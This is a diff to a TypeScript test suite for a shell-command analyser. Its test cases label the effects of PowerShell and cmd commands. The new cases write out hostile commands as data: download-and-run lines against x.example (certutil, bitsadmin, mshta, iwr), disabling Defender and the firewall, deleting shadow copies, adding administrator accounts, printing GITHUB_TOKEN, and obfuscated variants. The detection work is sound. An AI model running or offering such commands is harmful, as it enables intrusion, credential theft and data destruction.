@@ -7,13 +7,14 @@ const quoted = (text: string): string => `'${text.replaceAll("'", String.raw`'\'
 
 /** Its effects in a word each: `delete /p/x`. */
 function effectsOf(command: string): readonly string[] {
-  const { files, net, code, system, doubts } = readCommand(command, '/p', emptyWorld).effects
+  const { files, net, code, system, doubts, printed } = readCommand(command, '/p', emptyWorld).effects
   return [
     ...files.filter(({ maybe }) => !maybe).map(({ op, path }) => `${op} ${shown(path)}`),
     ...net.map(({ target, sends }) => `${sends === undefined ? 'fetch' : 'send'} ${target}`),
     ...code.map(({ from }) => `run ${from.network ? 'network' : from.decoded ? 'decoded' : 'unknown'}`),
     ...system.map(({ what }) => what),
     ...doubts.map(({ about }) => `doubt ${about}`),
+    ...printed.map((secret) => `print ${secret}`),
   ]
 }
 
@@ -61,6 +62,67 @@ describe('PowerShell', () => {
     ['Stop-Computer', 'halt'],
     ['Format-Volume -DriveLetter C', 'format'],
     ['('.repeat(100), 'doubt limit'],
+    ['@{a='.repeat(100), 'doubt limit'],
+    // Dashes and quotes as an editor bends them.
+    ['Remove-Item \u2013Recurse a', 'delete /p/a'],
+    ['Remove\u2013Item a', 'delete /p/a'],
+    ['Remove-Item \u2014Path a', 'delete /p/a'],
+    ['Remove-Item \u2015LiteralPath \u201Ca b\u201D', 'delete /p/a b'],
+    ['Get-Content \u2018a\u2019', 'read /p/a'],
+    ['iex \u201Crm a\u201D', 'delete /p/a'],
+    ["'a','b' \u2013join '' | % { ri $_ }", 'delete /p/ab'],
+    // Values that are put together.
+    ["$x='a'; $x+='b'; ri $x", 'delete /p/ab'],
+    ["[string]$x = 'a'; ri $x", 'delete /p/a'],
+    ["ri ('{0}.{1}' -f 'a','b')", 'delete /p/a.b'],
+    ["ri ('a','b' -join '/')", 'delete /p/a/b'],
+    ["ri ([IO.Path]::Combine('a','b'))", 'delete /p/a/b'],
+    ['ri (Join-Path a b)', 'delete /p/a/b'],
+    ["iex 'rx a'.Replace('x','m')", 'delete /p/a'],
+    ['iex ([char]114+[char]109+" a")', 'delete /p/a'],
+    ["& ('r'+'i') a", 'delete /p/a'],
+    ["iex ('a' -replace 'a','rm x')", 'run unknown'],
+    ["$p = @{ Path = 'a'; Recurse = $true }; Remove-Item @p", 'delete /p/a'],
+    ['Set-Variable x a; ri $x', 'delete /p/a'],
+    // Objects, members, branches.
+    ['(Get-Item a).Delete()', 'delete /p/a'],
+    ['gci a | % Delete', 'delete /p/a/*'],
+    ['gci a | ? { $_.Length -gt 1 } | ri', 'delete /p/a/*'],
+    ['switch (1) { 1 { ri a } }', 'delete /p/a'],
+    ['. ([scriptblock]::Create("ri a -Force"))', 'delete /p/a'],
+    // Places of Windows.
+    ['ri $env:APPDATA/x', 'delete /home/dev/AppData/Roaming/x'],
+    ['ri $env:windir', 'delete /c/Windows'],
+    [String.raw`Set-Content C:\x y`, 'write /c/x'],
+    ['Add-Content $PROFILE x', 'write /home/dev/.config/powershell/profile.ps1'],
+    [String.raw`Set-ItemProperty HKCU:\Software\x -Name y -Value z`, 'write /HKCU:/Software/x/y'],
+    [String.raw`New-ItemProperty Registry::HKEY_LOCAL_MACHINE\x -Name y`, 'write /HKLM:/x/y'],
+    [String.raw`Remove-Item HKLM:\x -Recurse`, 'delete /HKLM:/x'],
+    [String.raw`Remove-Item Cert:\LocalMachine\Root\1`, 'delete /CERT:/LocalMachine/Root/1'],
+    // The machine.
+    ['New-Service x -BinaryPathName y', 'schedule'],
+    ['Set-Service x -StartupType Disabled', 'schedule'],
+    ['Stop-Service x', 'service'],
+    ['Register-ScheduledTask x', 'schedule'],
+    ['New-LocalUser x', 'account'],
+    ['Add-LocalGroupMember Administrators x', 'account'],
+    ['Set-NetFirewallProfile -Enabled False', 'firewall'],
+    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'settings'],
+    ['Set-ExecutionPolicy Unrestricted', 'settings'],
+    ['Restart-Computer', 'halt'],
+    ['Clear-Disk 0', 'destroy-storage'],
+    ['Invoke-Sqlcmd -Query "DROP TABLE x"', 'sql'],
+    ['Remove-Widget x', 'doubt program'],
+    ['Reset-Everything', 'doubt program'],
+    // Programs and downloads.
+    ['Start-Process rm "-rf a"', 'delete /p/a'],
+    ['Start-Process rm a -Verb RunAs', 'delete /p/a'],
+    ['iwr https://x.example -OutFile a.exe; .\\a.exe', 'run network'],
+    ['Start-BitsTransfer https://x.example/a.exe; Start-Process .\\a.exe', 'run network'],
+    [
+      "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='cmd /c del a'}",
+      'delete /p/a',
+    ],
   ])('%s', (script, effect) => {
     expect(effectsOf(`pwsh -c ${quoted(script)}`)).toContain(effect)
   })
@@ -73,6 +135,14 @@ describe('PowerShell', () => {
     "'Remove-Item x'",
     '$PSVersionTable.PSVersion',
     'constructor',
+    'function Remove-Widget { 1 }',
+    'Remove-Variable x',
+    'Clear-Host',
+    'Remove-Item Env:X',
+    'Remove-Item Alias:x',
+    'Set-ExecutionPolicy Bypass -Scope Process',
+    '@{ rm = "x" }',
+    'Write-Host \u201CRemove-Item \u2013 x\u201D',
   ])('does nothing: %s', (script) => {
     expect(effectsOf(`pwsh -c ${quoted(script)}`)).toEqual([])
   })
@@ -84,6 +154,12 @@ describe('PowerShell', () => {
     [`echo 'Remove-Item x' > a.ps1; pwsh -File a.ps1`, 'delete /p/x'],
     [`pwsh -enc ${Buffer.from('Remove-Item x', 'utf16le').toString('base64')}`, 'delete /p/x'],
     ['pwsh -c "$X"', 'run unknown'],
+    ['pwsh \u2013c "ri x"', 'delete /p/x'],
+    ['powershell /c "ri x"', 'delete /p/x'],
+    ["pwsh -c '$env:GITHUB_TOKEN'", 'print $GITHUB_TOKEN'],
+    ["pwsh -c 'Write-Host $env:GITHUB_TOKEN; 1'", 'print $GITHUB_TOKEN'],
+    [`pwsh -c '[Environment]::GetEnvironmentVariable("GITHUB_TOKEN")'`, 'print $GITHUB_TOKEN'],
+    [String.raw`powershell -File '\\host\share\x.ps1'`, 'run network'],
   ])('%s', (command, effect) => {
     expect(effectsOf(command)).toContain(effect)
   })
@@ -107,6 +183,26 @@ describe('cmd', () => {
     ['cmd /c rd /s /q %USERPROFILE%', 'delete /home/dev'],
     ['cmd /c format c:', 'format'],
     ['cmd /c "curl https://x.example -o a.bat && a.bat"', 'run network'],
+    ['cmd /c "certutil -urlcache -f https://x.example/a.exe a.exe & a.exe"', 'run network'],
+    ['cmd /c "bitsadmin /transfer j https://x.example/a %TEMP%/a"', 'write /tmp/a'],
+    ['cmd /c "set x=rd& call %x% /s /q a"', 'delete /p/a'],
+    ['cmd /c "if not exist b rd /s /q a"', 'delete /p/a'],
+    ['cmd /c "for %i in (1) DO del a"', 'delete /p/a'],
+    ['cmd /c "r^d /s /q a"', 'delete /p/a'],
+    [String.raw`cmd /c "reg add HKCU\Software\x /v y /d z /f"`, 'write /HKCU:/Software/x/y'],
+    [String.raw`reg.exe delete 'HKLM\Software\x' /f`, 'delete /HKLM:/Software/x'],
+    ['cmd /c "schtasks /create /tn x /tr y"', 'schedule'],
+    ['cmd /c "sc create x binPath= y"', 'schedule'],
+    ['cmd /c "net user x y /add"', 'account'],
+    ['cmd /c "netsh advfirewall set allprofiles state off"', 'firewall'],
+    ['cmd /c "vssadmin delete shadows /all"', 'destroy-storage'],
+    ['cmd /c "bcdedit /set x y"', 'kernel'],
+    ['cmd /c "mshta https://x.example/a.hta"', 'run network'],
+    ['cmd /c "wmic process call create \'cmd /c del a\'"', 'delete /p/a'],
+    ['forfiles /p d /c "cmd /c del @path"', 'delete /p/d/*'],
+    [String.raw`robocopy 'C:\a' 'C:\b' /MIR`, 'delete /c/b'],
+    [String.raw`setx PATH 'C:\x'`, 'write /HKCU:/Environment/PATH'],
+    ['findstr x a', 'read /p/a'],
   ])('%s', (command, effect) => {
     expect(effectsOf(command)).toContain(effect)
   })
